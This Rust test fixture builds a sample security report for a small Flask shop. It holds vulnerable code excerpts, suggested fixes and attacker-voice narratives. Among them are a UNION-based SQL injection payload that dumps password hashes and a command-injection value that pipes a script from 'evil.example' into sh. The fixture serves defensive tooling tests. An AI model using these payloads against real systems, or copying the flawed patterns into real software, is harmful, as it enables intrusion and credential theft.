//! A realistic sample report, built by hand, that every format test renders.
//!
//! A small Flask shop: one component with three routes, PostgreSQL, Stripe
//! and OpenAI. Threats: a confirmed SQL injection with a source, a step and
//! an excerpt; a likely command injection; a hard-coded API token whose
//! excerpt is masked; debug mode left on; a design-level threat; an inline
//! ignore and a model-file suppression.

#![allow(dead_code)]

use bw_facts::{InlineIgnore, Location, Prop, Source, Step};
use bw_model::{
    AuthState, Boundary, Convention, ConventionKind, DataFlow, Element, ElementKind, EntryInfo,
    SystemModel,
};
use bw_threats::{
    AppliedDecision, Confidence, Excerpt, FileStats, Question, Reason, Report, RuleSummary,
    Severity, SkippedFile, Status, Summary, Threat, TruncatedFile, TruncationNote, UnanalysedFile,
    UnmatchedDecision,
};
use std::collections::BTreeMap;

/// The secret planted in the sample repository. Only its masked form is in
/// the report; no output may ever contain this.
pub const RAW_SECRET: &str = "sk-proj-4fJq9ZmT2wXrB7nLc0VhKe3S";

/// The masked form discovery writes into evidence and excerpts.
pub const MASKED_SECRET: &str = "sk-p****************************";

/// The location of `needle` on line `line` of `text` (columns 1-based,
/// end exclusive, counted in characters).
pub fn span(path: &str, line: u32, text: &str, needle: &str) -> Location {
    let byte = text
        .find(needle)
        .unwrap_or_else(|| panic!("{needle:?} not in {text:?}"));
    let start = text[..byte].chars().count() as u32 + 1;
    Location {
        path: path.into(),
        start_line: line,
        start_col: start,
        end_line: line,
        end_col: start + needle.chars().count() as u32,
    }
}

fn element(id: &str, kind: ElementKind, name: &str, technology: &str) -> Element {
    Element {
        id: id.into(),
        kind,
        name: name.into(),
        component: None,
        boundary: None,
        entry: None,
        technology: technology.into(),
        props: BTreeMap::new(),
        evidence: Vec::new(),
        declared: false,
    }
}

fn route(
    method: &str,
    path: &str,
    handler: &str,
    auth: AuthState,
    controls: &[&str],
    reaches: &[&str],
) -> Element {
    let id = format!("route:{method} {path}");
    let mut e = element(
        &id,
        ElementKind::EntryPoint,
        &format!("{method} {path}"),
        "flask",
    );
    e.component = Some("component:shop".into());
    e.boundary = Some("boundary:service-network".into());
    e.entry = Some(EntryInfo {
        kind: "http".into(),
        framework: "flask".into(),
        method: method.into(),
        route: path.into(),
        handler: handler.into(),
        auth,
        controls: controls.iter().map(|s| s.to_string()).collect(),
        rate_limited: false,
        reaches: reaches.iter().map(|s| s.to_string()).collect(),
    });
    e
}

fn model() -> SystemModel {
    let mut shop = element("component:shop", ElementKind::Component, "shop", "flask");
    shop.boundary = Some("boundary:service-network".into());
    shop.props.insert("port".into(), Prop::Int(8000));
    let mut postgres = element("store:postgres", ElementKind::Store, "postgres", "postgres");
    postgres.boundary = Some("boundary:service-network".into());
    let stripe = element(
        "external:api.stripe.com",
        ElementKind::External,
        "api.stripe.com",
        "https",
    );
    let openai = element("llm:openai", ElementKind::LlmProvider, "OpenAI", "openai");
    SystemModel {
        name: "shop".into(),
        description: "Online shop: catalogue search, report exports and a support chat.".into(),
        elements: vec![
            shop,
            route(
                "GET",
                "/search",
                "app.views.search",
                AuthState::Absent,
                &[],
                &["store:postgres"],
            ),
            route(
                "POST",
                "/admin/reports",
                "app.views.export_report",
                AuthState::Present,
                &["@login_required"],
                &["store:postgres"],
            ),
            route(
                "POST",
                "/chat",
                "app.views.chat",
                AuthState::Unknown,
                &[],
                &["llm:openai"],
            ),
            postgres,
            stripe,
            openai,
        ],
        boundaries: vec![Boundary {
            id: "boundary:service-network".into(),
            name: "Service network".into(),
            elements: vec![
                "component:shop".into(),
                "route:GET /search".into(),
                "route:POST /admin/reports".into(),
                "route:POST /chat".into(),
                "store:postgres".into(),
            ],
        }],
        flows: vec![
            DataFlow {
                from: "route:GET /search".into(),
                to: "store:postgres".into(),
                protocol: "SQL".into(),
                label: "queries".into(),
                crosses_boundary: false,
                encrypted: None,
            },
            DataFlow {
                from: "route:POST /admin/reports".into(),
                to: "store:postgres".into(),
                protocol: "SQL".into(),
                label: "queries".into(),
                crosses_boundary: false,
                encrypted: None,
            },
            DataFlow {
                from: "route:POST /chat".into(),
                to: "llm:openai".into(),
                protocol: "LLM API".into(),
                label: "prompts".into(),
                crosses_boundary: true,
                encrypted: Some(true),
            },
            DataFlow {
                from: "component:shop".into(),
                to: "external:api.stripe.com".into(),
                protocol: "HTTPS".into(),
                label: "payment requests".into(),
                crosses_boundary: true,
                encrypted: Some(true),
            },
        ],
        assets: Vec::new(),
        conventions: vec![
            Convention {
                kind: ConventionKind::QueryHelper,
                path: "app/db.py".into(),
                symbol: "fetch_all".into(),
                wraps: "*.execute".into(),
                client: String::new(),
                allowlist: String::new(),
                uses: 3,
                location: span(
                    "app/db.py",
                    12,
                    "def fetch_all(sql, params=()):",
                    "def fetch_all(sql, params=()):",
                ),
            },
            Convention {
                kind: ConventionKind::HttpWrapper,
                path: "app/net.py".into(),
                symbol: "safe_get".into(),
                wraps: "requests.get".into(),
                client: "requests".into(),
                allowlist: "ALLOWED_HOSTS".into(),
                uses: 2,
                location: span(
                    "app/net.py",
                    9,
                    "def safe_get(url, **kwargs):",
                    "def safe_get(url, **kwargs):",
                ),
            },
        ],
    }
}

fn reason(axis: &str, delta: i8, factor: &str, text: &str) -> Reason {
    Reason {
        axis: axis.into(),
        delta,
        factor: factor.into(),
        text: text.into(),
    }
}

fn lines(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

const SQL_FIX: &str = "Pass the search term as a bound parameter and let the driver quote it; never build SQL with `+`, `%` or f-strings.\n\n```python\nrows = db.session.execute(\n    text(\"SELECT id, name FROM products WHERE name LIKE :term\"),\n    {\"term\": f\"%{term}%\"},\n).fetchall()\n```\n";

const EXEC_FIX: &str = "Call the program with an argument list and without a shell, so the input stays one argument.\n\n```python\nsubprocess.run([\"pg_dump\", \"--table\", table], check=True)\n```\n";

fn threats() -> Vec<Threat> {
    // 1. Confirmed SQL injection: source and sink in one excerpt, one step.
    let views = "app/views.py";
    let ex_sql = lines(&[
        "@app.get(\"/search\")",
        "def search():",
        "    term = request.args.get(\"q\", \"\")",
        "    sql = \"SELECT id, name FROM products WHERE name LIKE '%\" + term + \"%'\"",
        "    rows = db.session.execute(text(sql)).fetchall()",
        "    return jsonify([dict(r._mapping) for r in rows])",
    ]);
    let sql_loc = span(views, 14, &ex_sql[4], "db.session.execute(text(sql))");
    let sql = Threat {
        id: "sql-injection@app/views.py::search".into(),
        rule: "sql-injection".into(),
        title: "SQL query built from untrusted input".into(),
        stride: "tampering".into(),
        cwe: vec![89],
        owasp: vec!["A05:2025".into()],
        severity: Severity::Critical,
        impact: 4,
        likelihood: 4,
        reasons: vec![reason(
            "likelihood",
            1,
            "authentication",
            "GET /search has no authentication while other routes of the app do",
        )],
        confidence: Confidence::Confirmed,
        confidence_reason: String::new(),
        excerpt: Some(Excerpt { start_line: 10, lines: ex_sql.clone() }),
        symbol: "search".into(),
        element: Some("route:GET /search".into()),
        source: Some(Source {
            kind: "request".into(),
            location: span(views, 12, &ex_sql[2], "request.args.get(\"q\", \"\")"),
            label: "request.args.get(\"q\", \"\")".into(),
        }),
        steps: vec![Step {
            location: span(views, 13, &ex_sql[3], "\"SELECT id, name FROM products WHERE name LIKE '%\" + term + \"%'\""),
            label: "concatenated into `sql`".into(),
        }],
        message: "query text built from request data is executed".into(),
        attack: "I search for `' UNION SELECT email, password_hash FROM users --` and the page lists every user's password hash. Because the route needs no login, anyone on the internet can do it, and with stacked queries I can change data too.".into(),
        fix_for: "flask".into(),
        fix: SQL_FIX.into(),
        status: Status::Open,
        status_reason: None,
        baseline: false,
        decision: None,
        fingerprint: "9c1e4f0a2b7d6e53".into(),
        evidence: String::new(),
        location: sql_loc,
    };

    // 2. Hard-coded API token: the excerpt is masked.
    let settings = "config/settings.py";
    let ex_secret = lines(&[
        "DATABASE_URL = os.environ[\"DATABASE_URL\"]",
        &format!("OPENAI_API_KEY = \"{MASKED_SECRET}\""),
        "STRIPE_API_VERSION = \"2024-06-20\"",
    ]);
    let secret = Threat {
        id: "hardcoded-api-token@config/settings.py::<module>".into(),
        rule: "hardcoded-api-token".into(),
        title: "API token committed in source code".into(),
        stride: "information-disclosure".into(),
        cwe: vec![798],
        owasp: vec!["A07:2025".into()],
        severity: Severity::High,
        impact: 4,
        likelihood: 3,
        reasons: Vec::new(),
        confidence: Confidence::Confirmed,
        confidence_reason: String::new(),
        location: span(settings, 4, &ex_secret[1], &format!("\"{MASKED_SECRET}\"")),
        excerpt: Some(Excerpt { start_line: 3, lines: ex_secret }),
        symbol: "<module>".into(),
        element: Some("llm:openai".into()),
        source: None,
        steps: Vec::new(),
        message: "an OpenAI API key is written in the code".into(),
        attack: "I clone the repository, or read a leaked copy of it, and use the key to run my own workloads on your OpenAI account until someone notices the bill.".into(),
        fix_for: "default".into(),
        fix: "Revoke the key now, then read it from the environment or a secret manager.\n\n```python\nOPENAI_API_KEY = os.environ[\"OPENAI_API_KEY\"]\n```\n".into(),
        status: Status::Open,
        status_reason: None,
        baseline: false,
        decision: None,
        fingerprint: "51d0be77a3c2f914".into(),
        evidence: String::new(),
    };

    // 3. Likely command injection: the table name comes from a parameter of unknown origin.
    let reports = "app/reports.py";
    let ex_exec = lines(&[
        "def dump_table(table):",
        "    cmd = f\"pg_dump --table {table} shop\"",
        "    return subprocess.run(cmd, shell=True, capture_output=True).stdout",
    ]);
    let exec = Threat {
        id: "command-injection@app/reports.py::dump_table".into(),
        rule: "command-injection".into(),
        title: "OS command built from untrusted input".into(),
        stride: "elevation-of-privilege".into(),
        cwe: vec![78],
        owasp: vec!["A05:2025".into()],
        severity: Severity::High,
        impact: 4,
        likelihood: 3,
        reasons: vec![
            reason("likelihood", 1, "rule", "the command runs through a shell"),
            reason("likelihood", -1, "authentication", "the calling route requires a login (@login_required)"),
        ],
        confidence: Confidence::Likely,
        confidence_reason: String::new(),
        location: span(reports, 23, &ex_exec[2], "subprocess.run(cmd, shell=True, capture_output=True)"),
        excerpt: Some(Excerpt { start_line: 21, lines: ex_exec }),
        symbol: "dump_table".into(),
        element: Some("route:POST /admin/reports".into()),
        source: None,
        steps: Vec::new(),
        message: "a formatted string runs through the shell".into(),
        attack: "If I can choose the table name, I send `users; curl https://evil.example/x | sh` and the server runs my script with the app's privileges.".into(),
        fix_for: "default".into(),
        fix: EXEC_FIX.into(),
        status: Status::Open,
        status_reason: None,
        baseline: false,
        decision: None,
        fingerprint: "0a8c33e1f6b2d7c4".into(),
        evidence: String::new(),
    };

    // 4. Debug mode: a literal setting, no flow.
    let main_py = "app/main.py";
    let ex_debug = lines(&[
        "if __name__ == \"__main__\":",
        "    app.run(host=\"0.0.0.0\", port=8000, debug=True)",
    ]);
    let debug = Threat {
        id: "debug-mode-enabled@app/main.py::<module>".into(),
        rule: "debug-mode-enabled".into(),
        title: "Debug mode enabled".into(),
        stride: "information-disclosure".into(),
        cwe: vec![489, 215],
        owasp: vec!["A02:2025".into()],
        severity: Severity::Medium,
        impact: 3,
        likelihood: 2,
        reasons: Vec::new(),
        confidence: Confidence::Confirmed,
        confidence_reason: String::new(),
        location: span(main_py, 31, &ex_debug[1], "debug=True"),
        excerpt: Some(Excerpt { start_line: 30, lines: ex_debug }),
        symbol: "<module>".into(),
        element: Some("component:shop".into()),
        source: None,
        steps: Vec::new(),
        message: "Flask runs with the Werkzeug debugger on".into(),
        attack: "I trigger any error and get the interactive debugger, which runs the Python I type on the server.".into(),
        fix_for: "flask".into(),
        fix: "Read debug from the environment and keep it off in production.\n\n```python\napp.run(debug=os.environ.get(\"FLASK_DEBUG\") == \"1\")\n```\n".into(),
        status: Status::Stale,
        status_reason: Some("decided accepted (Ana Lima, 2026-10-02) on `app.run(debug=os.environ.get(\"DEBUG\"))`; the code under it changed since: review it".into()),
        baseline: false,
        decision: Some(AppliedDecision {
            key: "debug-mode-enabled@app/main.py::<module>".into(),
            status: "accepted".into(),
            reason: "debug only when DEBUG is set".into(),
            author: "Ana Lima".into(),
            date: "2026-10-02".into(),
            ticket: None,
            expires: None,
            moved: false,
            repinned: false,
            decided_on: Some("app.run(debug=os.environ.get(\"DEBUG\"))".into()),
        }),
        fingerprint: "77e2a9d4c1f05b38".into(),
        evidence: String::new(),
    };

    // 5. An inline ignore with a reason.
    let legacy = "app/legacy.py";
    let ex_legacy = lines(&[
        "    # breakwater: ignore[sql-injection] table comes from the EXPORTABLE allow-list",
        "    cur.execute(f\"SELECT * FROM {table}\")",
    ]);
    let ignored = Threat {
        id: "sql-injection@app/legacy.py::export_csv".into(),
        rule: "sql-injection".into(),
        title: "SQL query built from untrusted input".into(),
        stride: "tampering".into(),
        cwe: vec![89],
        owasp: vec!["A05:2025".into()],
        severity: Severity::Medium,
        impact: 4,
        likelihood: 2,
        reasons: Vec::new(),
        confidence: Confidence::Likely,
        confidence_reason: String::new(),
        location: span(
            legacy,
            41,
            &ex_legacy[1],
            "cur.execute(f\"SELECT * FROM {table}\")",
        ),
        excerpt: Some(Excerpt {
            start_line: 40,
            lines: ex_legacy,
        }),
        symbol: "export_csv".into(),
        element: None,
        source: None,
        steps: Vec::new(),
        message: "a formatted string is executed as SQL".into(),
        attack: "If I control the table name I can read any table.".into(),
        fix_for: "default".into(),
        fix: SQL_FIX.into(),
        status: Status::Ignored,
        status_reason: Some("table comes from the EXPORTABLE allow-list".into()),
        baseline: false,
        decision: None,
        fingerprint: "3b5f1c9e8a0d2e61".into(),
        evidence: String::new(),
    };

    // 6. A design-level threat.
    let potential = Threat {
        id: "llm-endpoint-no-rate-limit@route:POST /chat".into(),
        rule: "llm-endpoint-no-rate-limit".into(),
        title: "LLM-backed endpoint without rate limiting".into(),
        stride: "denial-of-service".into(),
        cwe: vec![770],
        owasp: vec!["LLM10:2025".into()],
        severity: Severity::Medium,
        impact: 2,
        likelihood: 3,
        reasons: Vec::new(),
        confidence: Confidence::Potential,
        confidence_reason: String::new(),
        location: Location { path: "app/views.py".into(), start_line: 52, start_col: 1, end_line: 52, end_col: 24 },
        excerpt: None,
        symbol: "chat".into(),
        element: Some("route:POST /chat".into()),
        source: None,
        steps: Vec::new(),
        message: "POST /chat calls OpenAI and no rate limit applies".into(),
        attack: "I script thousands of long chat requests; each one is a paid model call, so I run up your bill or exhaust your quota.".into(),
        fix_for: "flask".into(),
        fix: "Add a per-client limit, for example with Flask-Limiter, and cap max_tokens.\n\n```python\n@limiter.limit(\"10/minute\")\n```\n".into(),
        status: Status::Open,
        status_reason: None,
        baseline: false,
        decision: None,
        fingerprint: "c4d2e0f1a9b83756".into(),
        evidence: String::new(),
    };

    // 7. Suppressed in the model file.
    let payments = "app/payments.py";
    let ex_tls =
        lines(&["    resp = requests.post(SANDBOX_URL, json=payload, verify=False, timeout=10)"]);
    let suppressed = Threat {
        id: "tls-verification-disabled@app/payments.py::sandbox_charge".into(),
        rule: "tls-verification-disabled".into(),
        title: "TLS certificate verification disabled".into(),
        stride: "spoofing".into(),
        cwe: vec![295],
        owasp: vec!["A04:2025".into()],
        severity: Severity::Low,
        impact: 3,
        likelihood: 1,
        reasons: vec![reason(
            "likelihood",
            -1,
            "rule",
            "only the sandbox host is called",
        )],
        confidence: Confidence::Confirmed,
        confidence_reason: String::new(),
        location: span(payments, 18, &ex_tls[0], "verify=False"),
        excerpt: Some(Excerpt {
            start_line: 18,
            lines: ex_tls,
        }),
        symbol: "sandbox_charge".into(),
        element: Some("external:api.stripe.com".into()),
        source: None,
        steps: Vec::new(),
        message: "requests.post is called with verify=False".into(),
        attack: "On the same network I present my own certificate and read the payment payload."
            .into(),
        fix_for: "default".into(),
        fix: "Remove verify=False.".into(),
        status: Status::Accepted,
        status_reason: Some("sandbox endpoint only".into()),
        baseline: false,
        decision: Some(AppliedDecision {
            key: "tls-verification-disabled@app/payments.py::sandbox_charge".into(),
            status: "accepted".into(),
            reason: "sandbox endpoint only".into(),
            author: "Ana Lima".into(),
            date: "2026-11-02".into(),
            ticket: Some("SEC-142".into()),
            expires: Some("2027-03-01".into()),
            moved: false,
            repinned: false,
            decided_on: None,
        }),
        fingerprint: "e8f7a6b5c4d3e2f1".into(),
        evidence: String::new(),
    };

    vec![sql, secret, exec, debug, ignored, potential, suppressed]
}

#[allow(clippy::too_many_arguments)]
fn rule(
    id: &str,
    title: &str,
    summary: &str,
    stride: &str,
    level: &str,
    cwe: &[u32],
    owasp: &[&str],
    sev: Severity,
) -> RuleSummary {
    RuleSummary {
        id: id.into(),
        title: title.into(),
        summary: summary.into(),
        stride: stride.into(),
        level: level.into(),
        cwe: cwe.to_vec(),
        capec: Vec::new(),
        owasp: owasp.iter().map(|s| s.to_string()).collect(),
        help: format!(
            "## {title}\n\n{summary}\n\nRun `breakwater explain {id}` for the full docs."
        ),
        default_severity: sev,
    }
}

fn rules() -> Vec<RuleSummary> {
    vec![
        rule(
            "command-injection",
            "OS command built from untrusted input",
            "A shell command is built from data an attacker may control.",
            "elevation-of-privilege",
            "code",
            &[78],
            &["A05:2025"],
            Severity::High,
        ),
        rule(
            "debug-mode-enabled",
            "Debug mode enabled",
            "The framework's debug mode is switched on in code.",
            "information-disclosure",
            "config",
            &[489, 215],
            &["A02:2025"],
            Severity::Medium,
        ),
        rule(
            "hardcoded-api-token",
            "API token committed in source code",
            "A service API token is written in a file in the repository.",
            "information-disclosure",
            "config",
            &[798],
            &["A07:2025"],
            Severity::High,
        ),
        rule(
            "llm-endpoint-no-rate-limit",
            "LLM-backed endpoint without rate limiting",
            "An endpoint that calls a language model has no rate limit.",
            "denial-of-service",
            "design",
            &[770],
            &["LLM10:2025"],
            Severity::Medium,
        ),
        rule(
            "sql-injection",
            "SQL query built from untrusted input",
            "A SQL statement is built from data an attacker may control.",
            "tampering",
            "code",
            &[89],
            &["A05:2025"],
            Severity::High,
        ),
        rule(
            "tls-verification-disabled",
            "TLS certificate verification disabled",
            "An HTTPS client is told not to verify the server certificate.",
            "spoofing",
            "config",
            &[295],
            &["A04:2025"],
            Severity::Medium,
        ),
    ]
}

fn skipped(path: &str, reason: &str, message: &str, failed: bool) -> SkippedFile {
    SkippedFile {
        path: path.into(),
        reason: reason.into(),
        message: message.into(),
        failed,
        unverified: failed,
    }
}

/// The sample report.
pub fn sample_report() -> Report {
    let mut languages = BTreeMap::new();
    languages.insert("dockerfile".to_string(), 1);
    languages.insert("python".to_string(), 19);
    languages.insert("requirements".to_string(), 1);
    languages.insert("yaml".to_string(), 2);
    Report {
        version: "1".into(),
        tool: "breakwater".into(),
        tool_version: "0.1.0".into(),
        model: model(),
        threats: threats(),
        rules: rules(),
        questions: vec![Question {
            element: "route:POST /chat".into(),
            question: "Is POST /chat protected by authentication at the gateway? No auth control was found in the code, and no other route of the app has one to compare with.".into(),
        }],
        decisions: vec![
            UnmatchedDecision {
                key: "open-redirect@app/auth.py::login_done#1".into(),
                status: "mitigated".into(),
                reason: "next is checked against the host".into(),
                state: "orphaned".into(),
                note: "no current threat has this id or this evidence: the code was fixed or removed; delete the decision (breakwater triage --remove)".into(),
            },
            UnmatchedDecision {
                key: "sql-injection@scripts/latin1_notes.py::main".into(),
                status: "false-positive".into(),
                reason: "the table name is a constant".into(),
                state: "unverified".into(),
                note: "scripts/latin1_notes.py was not analysed this time (see skipped files): the threat may still be there".into(),
            },
        ],
        ignores: vec![
            InlineIgnore {
                location: Location { path: "app/legacy.py".into(), start_line: 40, start_col: 5, end_line: 40, end_col: 83 },
                rules: vec!["sql-injection".into()],
                reason: "table comes from the EXPORTABLE allow-list".into(),
            },
            InlineIgnore {
                location: Location { path: "app/tasks.py".into(), start_line: 8, start_col: 5, end_line: 8, end_col: 44 },
                rules: vec!["log-injection".into()],
                reason: String::new(),
            },
        ],
        files: FileStats {
            analysed: 23,
            bytes: 184_320,
            languages,
            partial: vec!["app/broken_migration.py".into()],
            skipped: vec![
                skipped("app/static/vendor/chart.min.js", "vendored", "vendored code", false),
                skipped("app/static/vendor/jquery.min.js", "vendored", "vendored code", false),
                skipped("data/seed.json", "too-large", "2.4 MB is over the 1 MB limit", false),
                skipped("assets/sprite.json", "binary", "binary file", false),
                skipped("scripts/latin1_notes.py", "not-utf8", "file is not valid UTF-8 (byte 0xE9 at offset 112)", true),
                skipped("tests/conftest.py", "test", "test code", false),
                skipped("tests/test_reports.py", "test", "test code", false),
                skipped("tests/test_views.py", "test", "test code", false),
            ],
            truncated: vec![TruncatedFile {
                path: "app/reports.py".into(),
                notes: vec![TruncationNote {
                    limit: "nesting-depth".into(),
                    line: 212,
                    symbol: "export_rows".into(),
                    message: "code nested deeper than the analysis follows was not analysed; a flow through it may be missing".into(),
                }],
            }],
        },
        summary: Summary {
            threats: 5,
            critical: 1,
            high: 2,
            medium: 2,
            low: 0,
            info: 0,
            confirmed: 3,
            likely: 1,
            potential: 1,
            ignored: 1,
            suppressed: 0,
            decided: 1,
            stale: 1,
            expired: 0,
            orphaned: 1,
            unverified: 1,
            baseline: 0,
            unanalysed: 1,
        },
        suggestions: vec![],
        unanalysed: vec![
            UnanalysedFile {
                id: "unanalysed@app/reports.py::<file>".into(),
                path: "app/reports.py".into(),
                reason: "truncated".into(),
                message: "analysis truncated (line 212 in export_rows): code nested deeper than the analysis follows was not analysed; a flow through it may be missing".into(),
                fingerprint: "3f1c0b9e5d7a2468ace13579bdf02468ace13579".into(),
                status: Status::Accepted,
                status_reason: Some("generated export table, reviewed by hand".into()),
                decision: Some(AppliedDecision {
                    key: "unanalysed@app/reports.py::<file>".into(),
                    status: "accepted".into(),
                    reason: "generated export table, reviewed by hand".into(),
                    author: "Ana Lopez <ana@example.com>".into(),
                    date: "2026-10-02".into(),
                    ticket: None,
                    expires: None,
                    moved: false,
                    repinned: false,
                    decided_on: None,
                }),
            },
            UnanalysedFile {
                id: "unanalysed@scripts/latin1_notes.py::<file>".into(),
                path: "scripts/latin1_notes.py".into(),
                reason: "not-utf8".into(),
                message: "file is not valid UTF-8 (byte 0xE9 at offset 112)".into(),
                fingerprint: "9b2e41c07d5f3a8e6b1d0c2f4a6e8b0d1f3a5c7e".into(),
                status: Status::Open,
                status_reason: None,
                decision: None,
            },
        ],
    }
}
